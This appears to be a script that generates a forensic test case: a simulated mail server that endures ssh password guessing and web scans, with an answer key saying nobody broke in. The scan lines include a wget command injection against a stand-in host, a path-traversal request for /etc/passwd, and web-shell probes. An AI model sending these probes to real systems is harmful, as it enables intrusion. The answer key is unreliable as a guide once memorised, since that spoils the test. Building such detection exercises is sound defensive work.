#!/bin/bash
# Case "guessed-at": everybody tries, nobody gets in. The administrator mistypes a password once and then enters with it.
# Usage: guessed-at.sh FOLDER
set -euo pipefail
. "$(dirname "$0")/common.sh"
begin guessed-at "$1"

admin=198.51.100.61 carla=198.51.100.62 visitor1=198.51.100.93 visitor2=198.51.100.94
sources=(203.0.113.5 203.0.113.6 203.0.113.70 203.0.113.71 203.0.113.200 198.51.100.222 198.51.100.223)
server_tree mail3 America/New_York
account henri right.Horse.9 sudo
account carla s3cret-Carla
key henri henri@desk; may_enter henri henri
printf '<!doctype html><html><link rel="stylesheet" href="/mail.css"><h1>Mail service</h1><a href="/help.html">help</a></html>\n' >"$tree/var/www/html/index.html"
printf '<!doctype html><html><h1>Help</h1><p>Ask Henri.</p></html>\n' >"$tree/var/www/html/help.html"
echo 'h1 { font-weight: normal }' >"$tree/var/www/html/mail.css"
mkdir -p "$tree/srv/packages" "$tree/var/www/html/private"
printf 'Require all denied\n' >"$tree/var/www/html/private/.htaccess"
sed -i 's/AllowOverride None/AllowOverride All/' "$tree/etc/apache2/apache2.conf"
cp "$work/base.packages"/anacron_*.deb "$tree/srv/packages/"
deb=$(cd "$tree/srv/packages" && echo anacron_*.deb)
disk gpt 160
network $admin $carla $visitor1 $visitor2 "${sources[@]}"
boot

site=http://192.0.2.10
ff='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0'
look() { get "$1" -A "$ff" $site/; get "$1" -A "$ff" -e http://mail3.example.org/ $site/mail.css; get "$1" -A "$ff" -e http://mail3.example.org/ $site/help.html; }
# round ACCOUNT...: every address tries these accounts, the addresses at the same time.
round() {
	local s u pids=()
	for s in "${sources[@]}"; do
		{ for u in "$@"; do guess noise "$s" "$u" "$u$((RANDOM % 1000))"; done; } & pids+=($!)
		pause 0.1 0.6
	done
	wait "${pids[@]}"
}
scanning() {
	local s=$1 a=$2 p; shift 2
	for p in "$@"; do get "$s" -A "$a" --path-as-is "$site/$p"; pause 0 0.2; done
}
act visit visitor "" $visitor1 "looks at the site" look $visitor1
round root admin oracle carla & r=$!
session admin henri $admin "logs in by key" ssh_key $admin henri henri <<'S'
uptime
w
exit
S
wait $r
act web_scan noise "" 203.0.113.70 "asks for things that are not there, and for pages that are" scanning 203.0.113.70 'python-requests/2.31.0' wp-login.php xmlrpc.php .env admin/ phpmyadmin/index.php .git/config backup.zip private/ private/passwords.txt index.html help.html shell.php 'cgi-bin/luci;wget+http://203.0.113.200/x' '?page=../../../../etc/passwd' '?cmd=id'
act ssh_typo admin henri $admin "mistypes the password" ssh_pw $admin henri right.Horse.0 </dev/null >/dev/null 2>&1
session admin henri $admin "logs in by password, reads the log, locks carla's account, installs a package" ssh_pw $admin henri right.Horse.9 <<S
sudo tail -3 /var/log/auth.log
:secret right.Horse.9
sudo usermod -L carla
sudo dpkg -i /srv/packages/$deb
ls /etc/cron.d
exit
S
act ssh_guess visitor carla $carla "carla's own password no longer works, her account is locked" ssh_pw $carla carla s3cret-Carla </dev/null >/dev/null 2>&1
round test carla henri user
act web_scan noise "" 203.0.113.71 "asks for things that are not there" scanning 203.0.113.71 'Mozilla/5.0 zgrab/0.x' login.jsp config.php.bak db.sql manager/html actuator/env solr/admin/info/system server-status .htaccess index.html
act visit visitor "" $visitor2 "looks at the site" look $visitor2
round ubuntu postgres root mysql & r=$!
cron_minute
wait $r
session admin henri $admin "logs in by key" ssh_key $admin henri henri <<'S'
last -8
exit
S
round root guest
down

truth "Did any of those who guess get in?" "$(
	cat <<J
{"expect":{"status":"attacked","root":null,"entry":[],"persistence":[],"altered":[],"impact":[],"files":[],"actions":[],
 "attackers":$(printf '%s\n' "${sources[@]}" | jq -Rnc '[inputs]')},
 "must_not":{"accounts":["henri","carla"],"addresses":["$admin","$carla","$visitor1","$visitor2"],
  "files":["/etc/cron.d/anacron","/etc/cron.d/e2scrub_all","/etc/cron.d/php","/home/henri/.ssh/authorized_keys"]},
 "trap":{"what":"a mistyped password, then the right one, from the administrator's own address, where the key was used before","account":"henri","src":"$admin","time":"$(when ssh_login 'by password')"}}
J
)"
archive
readme <<'R'
# guessed-at

A mail server, `mail3`, as a tar archive of parts of its tree (`evidence.tar.gz`, numeric owners, times to the
nanosecond, made from the mounted file system). Local time is America/New_York; rsyslog writes Debian 12's own format.
Many addresses guess at ssh and scan the web server. Nobody enters who should not.
R
